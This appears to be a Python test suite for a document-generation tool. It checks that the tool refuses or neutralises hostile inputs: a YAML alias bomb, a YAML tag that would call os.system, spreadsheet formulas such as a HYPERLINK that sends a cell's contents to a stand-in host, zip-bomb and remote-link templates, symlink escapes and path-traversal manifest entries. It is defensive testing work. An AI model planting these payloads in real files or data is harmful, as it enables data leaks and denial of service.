"""Files written to hurt, or merely careless, on every surface besides the intake.

A training answer made of aliases, a firm template that expands to gigabytes
or links to a remote picture, an adapted method whose label asks for a value
nobody gives, a `failed/` folder that is a link out of `--out`, a client name
of a hundred emoji, names that a spreadsheet would run as formulas: each is
refused quickly and by name (exit status 2), or handled, and nothing is
written where it should not be.
"""

from __future__ import annotations

import io
import shutil
import time
import warnings
import zipfile
from pathlib import Path

import pytest
import yaml

from playbook import safe_yaml
from playbook.cli import main
from playbook.files import safe_name, spreadsheet_text, unique_name
from playbook.render import Chart, ChartSlide, Deck, Series, write_pptx
from tests.run.helpers import write_engagement

ROOT = Path(__file__).resolve().parents[2]
TEMPLATES = ROOT / "templates"
METHOD = ROOT / "playbook" / "method" / "data"
NOTEBOOKS = ROOT / "tests" / "fixtures" / "notebooks"
BOMB = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{c}: &{c} [*{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}]\n"
    for p, c in zip("abcdefgh", "bcdefghi", strict=True))


# --------------------------------------------------------------------------- one bounded YAML loader


def test_an_alias_bomb_in_a_training_answer_is_refused_at_once(tmp_path, capsys):
    answer = tmp_path / "bomb.yaml"
    answer.write_text("trainee: Bob\ncase: contact_centre\n" + BOMB, encoding="utf-8")
    start = time.perf_counter()

    status = main(["training", "check", str(answer), "--out", str(tmp_path / "out")])

    assert time.perf_counter() - start < 10
    assert status == 2
    assert capsys.readouterr().err.strip() == (
        f"{answer}: not a readable YAML file: line 7: repeated references (YAML aliases) expand "
        "to more than 100000 values here")
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(("text", "reason"), [
    ("a: 1\na: 2\n", "line 2: key 'a' appears twice in the same mapping (first at line 1)"),
    ("a: &x [*x]\n", "line 1: an alias refers to the value that contains it"),
    ("a: !!binary aGVsbG8=\n", "line 1: values tagged !!binary are not accepted"),
    ("a: !!python/object:os.system x\n", "line 1: values tagged !!python/object:os.system are not accepted"),
])
def test_the_shared_loader_refuses_what_no_playbook_file_holds(text, reason):
    with pytest.raises(safe_yaml.YamlRefused) as refused:
        safe_yaml.load(text)

    assert str(refused.value) == reason


def test_a_yaml_file_linked_to_an_endless_device_is_not_read(tmp_path):
    link = tmp_path / "answer.yaml"
    link.symlink_to("/dev/zero")

    with pytest.raises(OSError, match="not a regular file"):
        safe_yaml.load_file(link)


def _adapted_method(tmp_path: Path) -> Path:
    folder = tmp_path / "method"
    shutil.copytree(METHOD, folder)
    return folder


def test_an_adapted_methods_duplicate_key_is_refused_not_silently_replaced(tmp_path, capsys):
    method = _adapted_method(tmp_path)
    copil = method / "copil.yaml"
    copil.write_text(copil.read_text(encoding="utf-8") + "\npulse: {min_group: 1}\n", encoding="utf-8")

    status = main(["handbook", "--method", str(method), "--out", str(tmp_path / "out")])

    assert status == 2
    assert "copil.yaml: not valid YAML (line " in capsys.readouterr().err
    assert not (tmp_path / "out").exists()


# --------------------------------------------------------------------------- label placeholders


def test_an_adapted_label_with_an_unknown_placeholder_is_refused_when_the_method_loads(tmp_path, capsys):
    method = _adapted_method(tmp_path)
    labels = method / "labels.handbook.yaml"
    data = yaml.safe_load(labels.read_text(encoding="utf-8"))
    key, label = next(iter(data.items()))
    while "fr" not in label:
        key2, label = next(iter(label.items()))
        key = f"{key}.{key2}"
    label["en"] = label["en"] + " {secret}"
    labels.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")

    status = main(["handbook", "--method", str(method), "--lang", "en", "--out", str(tmp_path / "out")])

    err = capsys.readouterr().err
    assert status == 2
    assert f"labels.yaml: {key} (en): unknown placeholder {{secret}}; this label may use: " in err
    assert "KeyError" not in err
    assert not (tmp_path / "out").exists()


# --------------------------------------------------------------------------- spreadsheets


HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "@SUM(1+1)", "+1-1", "-2+3", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_evaluate_is_written_as_text(text):
    assert spreadsheet_text(text) == "'" + text
    assert spreadsheet_text("Alice") == "Alice" and spreadsheet_text(42) == 42


def test_the_cohort_scores_csv_never_holds_a_formula(tmp_path):
    import csv

    from playbook.training.cohort import check_cohort, write_cohort_report

    answers = []
    for i, name in enumerate(HOSTILE):
        path = tmp_path / f"t{i}.yaml"
        path.write_text(yaml.safe_dump({"trainee": name, "case": "contact_centre"}), encoding="utf-8")
        answers.append(path)

    written = write_cohort_report(check_cohort(answers), tmp_path / "out")

    with written["csv"].open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    trainees = [row[0] for row in rows[1:]]
    assert sorted(trainees) == sorted("'" + name for name in HOSTILE)


def test_a_charts_own_workbook_holds_names_as_text(tmp_path):
    from openpyxl import load_workbook
    from pptx import Presentation

    chart = Chart("bar", categories=["=HYPERLINK(\"http://x.example\",\"a\")", "Back office"],
                  series=[Series("=1+1", [3, 4])])
    deck = Deck(title="Plan", client="Client", slides=[ChartSlide("Chart", chart)])
    shape = next(s for s in Presentation(str(write_pptx(deck, tmp_path / "d.pptx", TEMPLATES)))
                 .slides[0].shapes if getattr(s, "has_chart", False))
    book = load_workbook(io.BytesIO(shape.chart.part.chart_workbook.xlsx_part.blob))

    cells = [c for row in book.worksheets[0].iter_rows() for c in row if c.value is not None]
    assert [c.data_type for c in cells if str(c.value).startswith("=")] == ["s", "s"]


def test_the_intake_workbooks_lists_hold_names_as_text(tmp_path):
    from openpyxl import load_workbook

    from playbook.intake import write_intake_template
    from playbook.model import Engagement
    from tests.factories import minimal_engagement_dict

    data = minimal_engagement_dict()
    data["populations"][0]["name"] = "=HYPERLINK(\"http://x.example\",\"a\")"
    for lot in data.get("lots", []):
        lot["populations"] = [p["name"] for p in data["populations"]]
    try:
        engagement = Engagement.model_validate(data)
    except ValueError:
        pytest.skip("the factory's references changed")
    book = load_workbook(write_intake_template(tmp_path / "w.xlsx", engagement))

    formulas = [c.coordinate for ws in book.worksheets for row in ws.iter_rows() for c in row
                if c.data_type == "f" and "HYPERLINK" in str(c.value)]
    assert formulas == []


# --------------------------------------------------------------------------- templates


def _template_copy(tmp_path: Path) -> Path:
    folder = tmp_path / "firm"
    folder.mkdir()
    for name in ("house.docx", "house.pptx"):
        shutil.copy(TEMPLATES / name, folder / name)
    return folder


def _rewrite(path: Path, edit) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        for item in source.infolist():
            out.writestr(item, edit(item.filename, source.read(item.filename)))
        extra = edit(None, b"")
        if extra:
            out.writestr(*extra)
    path.write_bytes(buffer.getvalue())


def test_a_template_part_that_expands_to_a_gigabyte_is_refused_before_it_is_read(tmp_path, capsys):
    firm = _template_copy(tmp_path)

    def bomb(name, data):
        if name == "word/styles.xml":
            return data + b" " * (100 << 20)  # compresses to almost nothing
        return data if name else None

    _rewrite(firm / "house.docx", bomb)
    assert (firm / "house.docx").stat().st_size < 2 << 20

    status = main(["check-templates", str(firm)])

    assert status == 2
    assert "  - house.docx: part word/styles.xml expands to 100 MB, more than 64 MB: not read" in (
        capsys.readouterr().err)


def test_a_template_linking_to_a_remote_picture_is_refused_and_named(tmp_path, capsys):
    firm = _template_copy(tmp_path)
    link = (b'<Relationship Id="rIdRemote" Type="http://schemas.openxmlformats.org/officeDocument/'
            b'2006/relationships/image" Target="http://tracker.example/logo.png" '
            b'TargetMode="External"/></Relationships>')

    def remote(name, data):
        if name == "ppt/slideMasters/_rels/slideMaster1.xml.rels":
            return data.replace(b"</Relationships>", link)
        return data if name else None

    _rewrite(firm / "house.pptx", remote)

    status = main(["check-templates", str(firm)])

    assert status == 2
    assert ("  - house.pptx: ppt/slideMasters/slideMaster1.xml links to an outside image "
            "(http://tracker.example/logo.png); it would be copied into every client file and "
            "fetched when opened: embed it or remove it") in capsys.readouterr().err


def test_a_deliverable_is_never_written_in_such_a_template(tmp_path):
    from playbook.errors import TemplateError
    from playbook.render import Document, Paragraph, write_docx

    firm = _template_copy(tmp_path)
    link = (b'<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            b'relationships/attachedTemplate" Target="file://server/share/t.dotm" '
            b'TargetMode="External"/></Relationships>')

    def attached(name, data):
        if name == "word/_rels/document.xml.rels":
            return data.replace(b"</Relationships>", link)
        return data if name else None

    _rewrite(firm / "house.docx", attached)

    with pytest.raises(TemplateError) as refused:
        write_docx(Document(title="Note", blocks=[Paragraph("Texte")]), tmp_path / "note.docx", firm)

    assert "links to an outside attachedTemplate (file://server/share/t.dotm)" in str(refused.value)
    assert not (tmp_path / "note.docx").exists()


# --------------------------------------------------------------------------- links out of --out


def test_a_failed_folder_linked_out_of_out_receives_nothing(tmp_path, capsys):
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    out = tmp_path / "out"
    folder = out / "Acme" / "fr"
    folder.mkdir(parents=True)
    (folder / "failed").symlink_to(outside, target_is_directory=True)
    engagement = write_engagement(tmp_path, client="Acme", sector="fixture: fail framing_note")

    status = main(["run", str(engagement), "--out", str(out), "--only", "framing_note",
                   "--notebooks", str(NOTEBOOKS)])

    err = " ".join(capsys.readouterr().err.split())
    assert status == 1
    assert "Acme / framing_note : échec dans la cellule" in err and "conservé dans" not in err
    assert list(outside.iterdir()) == []


def test_a_client_folder_linked_out_of_out_is_refused_by_name(tmp_path, capsys):
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    out = tmp_path / "out"
    (out / "Acme").mkdir(parents=True)
    (out / "Acme" / "fr").symlink_to(outside, target_is_directory=True)
    engagement = write_engagement(tmp_path, client="Acme")

    status = main(["run", str(engagement), "--out", str(out), "--only", "framing_note",
                   "--notebooks", str(NOTEBOOKS)])

    err = " ".join(capsys.readouterr().err.split())
    assert status == 2
    assert "est un lien qui mène hors du dossier de sortie ; rien n'a été écrit pour 'Acme'" in err
    assert "internal error" not in err
    assert list(outside.iterdir()) == []


# --------------------------------------------------------------------------- names


def test_a_hundred_emoji_name_gives_a_folder_name_a_disk_accepts(tmp_path):
    name = "🚀" * 100
    folder = unique_name(name)

    assert len(folder.encode("utf-8")) <= 140
    (tmp_path / folder / "fr").mkdir(parents=True)  # "File name too long" otherwise
    assert folder.startswith("🚀") and folder != unique_name("🚀" * 99)


def test_a_hundred_emoji_client_validates_and_runs(tmp_path, capsys):
    engagement = write_engagement(tmp_path, client="🚀" * 100)
    assert main(["validate", str(engagement)]) == 0

    status = main(["run", str(engagement), "--out", str(tmp_path / "out"), "--only", "framing_note",
                   "--notebooks", str(NOTEBOOKS)])

    assert status == 0, capsys.readouterr().err
    (client,) = (tmp_path / "out").iterdir()
    assert (client / "fr" / "framing_note.docx").is_file()


@pytest.mark.parametrize("name", ["COM¹", "COM0", "lpt³", "CONIN$", "conout$", "AUX .txt", "Nul.docx"])
def test_every_windows_device_name_is_kept_off_a_folder(name):
    assert safe_name(name).startswith("_")


def test_check_layout_of_a_missing_folder_says_so(tmp_path, capsys):
    status = main(["check-layout", str(tmp_path / "no" / "such")])

    assert status == 2
    assert "no such folder" in capsys.readouterr().err


# --------------------------------------------------------------------------- text measurement


def test_text_is_measured_with_the_shipped_fonts_whatever_matplotlib_has_cached(monkeypatch):
    from matplotlib import font_manager

    from playbook.render import fit

    def stale(*args, **kwargs):
        raise ValueError("font cache predates the fonts")

    monkeypatch.setattr(font_manager, "findfont", stale)
    fit._font.cache_clear()
    fit._em_width.cache_clear()
    try:
        with warnings.catch_warnings():
            warnings.simplefilter("error")
            narrow, wide = fit.text_width("iiii", 10), fit.text_width("MMMM", 10)
    finally:
        fit._font.cache_clear()
        fit._em_width.cache_clear()
    assert wide > 2.5 * narrow  # real metrics; the average estimate makes them equal


def test_a_missing_font_file_is_said_not_silently_averaged(monkeypatch, tmp_path):
    from playbook.render import fit

    monkeypatch.setitem(fit.FONT_FILES, False, tmp_path / "gone.ttf")
    fit._font.cache_clear()
    fit._em_width.cache_clear()
    try:
        with pytest.warns(fit.MetricsMissing, match="gone.ttf is missing"):
            fit.text_width("word", 10)
    finally:
        fit._font.cache_clear()
        fit._em_width.cache_clear()


def test_the_fonts_ship_with_their_licence():
    from playbook.render import fit

    assert all(path.is_file() for path in fit.FONT_FILES.values())
    assert "SIL OPEN FONT LICENSE Version 1.1" in (fit.FONTS_DIR / "OFL.txt").read_text(encoding="utf-8")



# --------------------------------------------------------------------------- what a run carries


def test_the_review_copy_holds_no_character_html_forbids():
    import nbformat

    from playbook.run.html import review_html

    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell(
        "Acme\x00 Corp\x1b[31m \uffff end")])

    html = review_html(notebook)

    assert not any(c in html for c in "\x00\x1b\uffff")
    assert "Acme\ufffd Corp\ufffd[31m \ufffd end" in html


def test_manifest_records_naming_paths_are_not_carried_forward(tmp_path):
    import json

    from playbook.run import manifest as manifest_module

    folder = tmp_path / "out" / "Acme" / "fr"
    folder.mkdir(parents=True)
    (folder / "framing_note.docx").write_bytes(b"x")
    (tmp_path / "secret.txt").write_bytes(b"x")
    record = {"notebook": "n.ipynb", "seconds": 1.0, "engagement_sha256": "", "method_version": "",
              "generated_at": ""}
    (folder / "manifest.json").write_text(json.dumps({"deliverables": {
        "framing_note": {**record, "files": {"framing_note.docx": "0"}},
        "steering": {**record, "files": {"../../../secret.txt": "0"}},
        "change_plan": {**record, "files": {str(tmp_path / "secret.txt"): "0"}},
    }}), encoding="utf-8")

    assert list(manifest_module.previous(folder)) == ["framing_note"]


@pytest.mark.parametrize(("client", "warned"), [
    ("\u0410cme Corp", True),  # a Cyrillic A
    ("Acme C\u03bfrp", True),  # a Greek omicron
    ("Acme Corp", False), ("Москва Банк", False), ("Ελληνική Ασφαλιστική", False), ("東京 Acme", False),
])
def test_a_client_name_mixing_look_alike_alphabets_is_warned(tmp_path, capsys, client, warned):
    engagement = write_engagement(tmp_path, client=client, language="en")

    assert main(["validate", str(engagement)]) == 0

    line = ("engagement.client (line 3): the client's name mixes letters of several alphabets")
    assert (line in capsys.readouterr().out) is warned
